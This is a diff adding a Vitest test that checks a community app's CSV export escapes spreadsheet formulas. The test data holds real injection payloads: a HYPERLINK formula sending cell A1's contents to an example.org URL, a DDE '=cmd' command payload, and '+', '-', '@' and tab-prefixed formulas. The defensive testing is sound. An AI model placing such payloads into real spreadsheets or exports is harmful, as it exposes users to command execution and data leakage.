@@ -1,6 +1,7 @@
 import { existsSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import fc from 'fast-check'
+import Papa from 'papaparse'
 import { sql } from 'kysely'
 import { describe, expect, it } from 'vitest'
 import { collectTables } from '../../db/report/tables'
@@ -104,6 +105,54 @@ describe('CSV export', () => {
       value(await t.api['report:exportCsv']({ from: '2026-01', to: '2026-03', k: 3 })),
     ).toBeNull()
     expect(value<ReportExport[]>(await t.api['report:exports'](undefined))).toHaveLength(1)
+  })
+})
+
+describe('CSV export and formulas', () => {
+  it('never carries a formula: wijk names, passions, themes, her organisation and her stories', async () => {
+    const wijk = '=HYPERLINK("https://example.org/?"&A1,"Klik hier")'
+    const passion = "=cmd|' /C calc'!A0"
+    const theme = '+1+1'
+    const initiative = value<{ id: string }>(
+      await t.api['initiatives:create']({ name: 'Kookclub', kind: 'activiteit', themes: [theme] }),
+    )
+    for (const firstName of ['An', 'Bo', 'Cor']) {
+      const created = value<{ id: string }>(
+        await t.api['people:create']({
+          firstName,
+          wijk,
+          tags: [{ kind: 'passion', name: passion }],
+          moment: { date: '2026-02-01', channel: 'straat' },
+        }),
+      )
+      value(
+        await t.api['connections:create']({
+          personId: created.id,
+          initiativeId: initiative.id,
+          date: '2026-02-02',
+        }),
+      )
+    }
+    value(await t.api['settings:update']({ workerName: '', organisation: '@SUM(1,2)' }))
+    const path = join(t.dir.path, 'verantwoording.csv')
+    t.platform.fileDialog.saveAnswer = path
+    value(
+      await t.api['report:exportCsv']({
+        from: '2026-01',
+        to: '2026-03',
+        k: 3,
+        narrative: '-2+3 buren kwamen mee koken.\n\t=1+1',
+      }),
+    )
+    const cells = Papa.parse<string[]>(readFileSync(path, 'utf8').slice(1), { delimiter: ';' })
+      .data.flat()
+      .filter(Boolean)
+    for (const hostile of [wijk, passion, theme, '@SUM(1,2)', '-2+3 buren kwamen mee koken.']) {
+      expect(cells, hostile).toContain(`'${hostile}`)
+    }
+    // Whatever Excel would run: nothing, only text that starts with the apostrophe.
+    const formulas = cells.filter((cell) => /^[\s\u00a0]*[=+\-@\t\r]/.test(cell))
+    expect(formulas).toEqual([])
   })
 })
 
